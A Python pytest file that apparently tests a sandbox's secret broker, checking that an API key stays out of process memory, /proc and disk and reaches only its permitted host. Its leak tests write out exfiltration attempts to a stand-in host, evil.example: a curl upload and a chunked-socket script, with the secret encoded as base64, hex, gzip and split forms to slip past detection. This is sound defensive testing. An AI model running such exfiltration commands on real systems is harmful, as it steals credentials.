"""Promise: a secret's value is never inside, and leaves only towards the hosts it belongs to."""

from __future__ import annotations

import base64
import gzip
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.security.arena import Arena, attack, python, shell
from tests.security.test_egress import _processes
from tests.support.internet import Internet

VALUE = "sk-proj-r4nd0mV4lueThatIsTheSecret77"

pytestmark = pytest.mark.needs("curl")


@pytest.fixture
def internet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Internet]:
    """Hosts on loopback, and the secret in the caller's environment."""
    monkeypatch.setenv("CASEMATE_BROKER_IDLE", "0.2")
    monkeypatch.delenv("XDG_RUNTIME_DIR", raising=False)
    monkeypatch.setenv("API_KEY", VALUE)
    directory = tmp_path / "internet"
    directory.mkdir()
    made = Internet(directory)
    yield made
    made.close()


def options(internet: Internet, *allow: str, **secret: object) -> tuple[str, ...]:
    """Options that allow these endpoints and give the session the secret."""
    found = internet.options(*allow)
    for key, value in {"to": ["api.example"], **secret}.items():
        found += ("--set", f"secrets.API_KEY.{key}={json.dumps(value)}")
    return found


FETCH = 'curl -sS -m 10 -H "Authorization: Bearer $API_KEY" https://api.example/'


def test_e33_the_value_is_nowhere_inside(arena: Arena, internet: Internet) -> None:
    """Bare, the key is in the environment of every process; inside, in no memory at all, while
    the requests that carry it are answered."""
    server = internet.host("api.example")
    search = _quoted(attack("memory", VALUE[::-1]))
    bare = arena.bare(shell(f"sleep 30 & {search}; kill $!"))
    assert int(bare.out) > 0
    script = f"{FETCH} > /tmp/answer; sleep 30 & {search}; kill $!; cat /tmp/answer"
    inside = arena.inside(shell(script), *options(internet, "api.example"))
    count, _, answer = inside.out.partition("\n")
    assert int(count) == 0
    assert server.asked[0]["headers"]["authorization"] == f"Bearer {VALUE}"
    assert VALUE not in answer


def test_e33_the_vault_cannot_be_read(arena: Arena, internet: Internet) -> None:
    """Another process of the same user cannot read the memory or the environment of the vault."""
    internet.host("api.example")
    script = f"{FETCH} > /dev/null; echo ready; read line"
    with arena.started(shell(script), *options(internet, "api.example")) as process:
        assert process.stdout
        assert process.stdout.readline() == b"ready\n"
        broker = _processes("casemate.egress.broker", str(arena.state))
        vaults = [
            pid
            for pid in _processes("casemate.vault.process", "casemate.vault.process")
            if _parent(pid) in broker
        ]
        assert len(vaults) == 1
        for pid in (*vaults, *broker):
            assert VALUE.encode() not in Path(f"/proc/{pid}/cmdline").read_bytes()
            if os.geteuid() == 0:
                # Root may read what it likes: the environment holds nothing all the same.
                assert VALUE.encode() not in Path(f"/proc/{pid}/environ").read_bytes()
                continue
            for name in ("mem", "environ", "maps"):
                with pytest.raises(PermissionError):
                    Path(f"/proc/{pid}/{name}").read_bytes()
    assert _found_on_disk(arena) == []


def test_e34_reflection(arena: Arena, internet: Internet) -> None:
    """A host that sends back what it was sent gives the placeholder, in headers and body."""
    server = internet.host("api.example")
    script = f"{FETCH.replace('-sS', '-sSi')}; echo; echo $API_KEY"
    inside = arena.inside(shell(script), *options(internet, "api.example")).out
    assert VALUE in json.dumps(server.asked)
    assert VALUE not in inside
    placeholder = inside.splitlines()[-1]
    assert inside.count(placeholder) == 3
    assert len(placeholder) == len(VALUE)
    assert placeholder.startswith("sk-proj-")


@pytest.mark.parametrize(
    ("form", "request_", "seen"),
    [
        ("bearer", '-H "Authorization: token $API_KEY"', f"token {VALUE}"),
        ("basic", '-u "user:$API_KEY"', base64.b64encode(f"user:{VALUE}".encode()).decode()),
        ("header:X-Api-Key", '-H "x-api-key: $API_KEY"', VALUE),
        ("query:key", '-G -d "a=1&key=$API_KEY"', f"key={VALUE}"),
        ("body:key", "-d '{\"key\": \"'$API_KEY'\"}'", VALUE),
    ],
)
def test_e35_forms(arena: Arena, internet: Internet, form: str, request_: str, seen: str) -> None:
    """Each way to present a credential, towards its own host."""
    server = internet.host("api.example")
    script = f"curl -sS -m 10 {request_} https://api.example/"
    inside = arena.inside(shell(script), *options(internet, "api.example", **{"as": form}))
    assert seen in json.dumps(server.asked[0]).replace('\\"', '"'), inside
    assert VALUE not in inside.out


@pytest.mark.parametrize("form", ["raw", "base64", "hex", "url", "json", "gzip", "split", "header"])
def test_e35_leaks(arena: Arena, internet: Internet, form: str) -> None:
    """A secret that lies in the project after all leaves in no encoding and in no two pieces."""
    server = internet.host("evil.example", port=80, tls=False)
    value = VALUE.encode()
    bodies = {
        "raw": b"x" * 1000 + value,
        "base64": base64.b64encode(b"ab" + value + b"c"),
        "hex": value.hex().encode(),
        "url": "".join(f"%{byte:02x}" for byte in value).encode(),
        "json": "".join(f"\\u{byte:04x}" for byte in value).encode(),
        "gzip": gzip.compress(b"y" * 5000 + base64.b64encode(value)),
        "split": value,
        "header": b"",
    }
    (arena.project / "found").write_bytes(bodies[form])
    send = "curl -sS -m 10 --data-binary @found http://evil.example/ -w ' %{http_code}'"
    if form == "gzip":
        send += " -H 'Content-Encoding: gzip'"
    if form == "header":
        send = f"curl -sS -m 10 -H 'X-Data: a{VALUE}b' http://evil.example/ -w ' %{{http_code}}'"
    if form == "split":
        send = _quoted(
            python(
                "import socket, time\n"
                "s = socket.create_connection(('evil.example', 80)); d = open('found', 'rb').read()\n"
                "s.sendall(b'POST / HTTP/1.1\\r\\nHost: evil.example\\r\\n"
                "Transfer-Encoding: chunked\\r\\n\\r\\n')\n"
                "for b in d: s.sendall(b'1\\r\\n%c\\r\\n' % b); time.sleep(0.002)\n"
                "s.sendall(b'0\\r\\n\\r\\n'); print(s.recv(9999).decode(), 403)"
            )
        )
    inside = arena.inside(shell(send), *options(internet, "evil.example:80", "api.example"))
    assert "secret-leak" in inside.out, inside
    assert inside.out.rstrip().endswith("403")
    assert VALUE not in json.dumps(server.asked)


def test_e32_e36_other_hosts_and_other_credentials(arena: Arena, internet: Internet) -> None:
    """A placeholder is worth nothing elsewhere, and an attacker's key nothing at the own host."""
    api = internet.host("api.example")
    other = internet.host("codeload.example")
    script = (
        'curl -sS -m 10 -H "Authorization: Bearer $API_KEY" https://codeload.example/; echo; '
        'curl -sS -m 10 -H "Authorization: Bearer sk-attacker-key-attacker" https://api.example/'
    )
    allow = ("api.example", "codeload.example GET")
    inside = arena.inside(shell(script), *options(internet, *allow, own_only=True)).out
    assert '"secret-host"' in inside
    assert '"foreign-credential"' in inside
    assert api.asked == []
    assert other.asked == []


def test_files_with_placeholders(arena: Arena, internet: Internet) -> None:
    """A credential file inside holds the placeholder, belongs to the sandbox and is not outside."""
    internet.host("api.example")
    file = """{ path = "~/.tool/auth.json", content = '{"key": "${API_KEY}"}' }"""
    script = "cat ~/.tool/auth.json; echo; echo $API_KEY; echo changed > ~/.tool/auth.json && touch ~/.tool/new"
    given = (*options(internet, "api.example"), "--set", f"secrets.API_KEY.files=[{file}]")
    inside = arena.inside(shell(script), *given)
    content, placeholder = inside.out.splitlines()
    assert json.loads(content) == {"key": placeholder}
    assert inside.status == 0
    assert placeholder != VALUE
    assert not (arena.home / ".tool").exists()


def test_a_missing_secret_stops_the_launch(arena: Arena, internet: Internet) -> None:
    """A secret without a value is an error that says where one was looked for."""
    said = arena.refused(*options(internet, "api.example", source="env:NO_SUCH_VARIABLE"))
    assert "NO_SUCH_VARIABLE is not set" in said


def test_the_vault_is_killed(arena: Arena, internet: Internet) -> None:
    """Without its vault a session's requests are refused, never sent with what is there."""
    server = internet.host("api.example")
    script = f"{FETCH} > /dev/null; echo ready; read line; {FETCH}"
    with arena.started(shell(script), *options(internet, "api.example")) as process:
        assert process.stdout and process.stdin
        assert process.stdout.readline() == b"ready\n"
        broker = _processes("casemate.egress.broker", str(arena.state))
        for pid in _processes("casemate.vault.process", "casemate.vault.process"):
            if _parent(pid) in broker:
                os.kill(pid, 9)
        process.stdin.write(b"\n")
        process.stdin.close()
        assert b'"vault"' in process.stdout.read()
    assert len(server.asked) == 1


def _parent(pid: int) -> int:
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])


def _found_on_disk(arena: Arena) -> list[Path]:
    return [path for path in arena.state.rglob("*") if path.is_file() and VALUE in _text(path)]


def _text(path: Path) -> str:
    return path.read_bytes().decode("latin-1")


def _quoted(words: list[str]) -> str:
    import shlex

    return shlex.join(words)
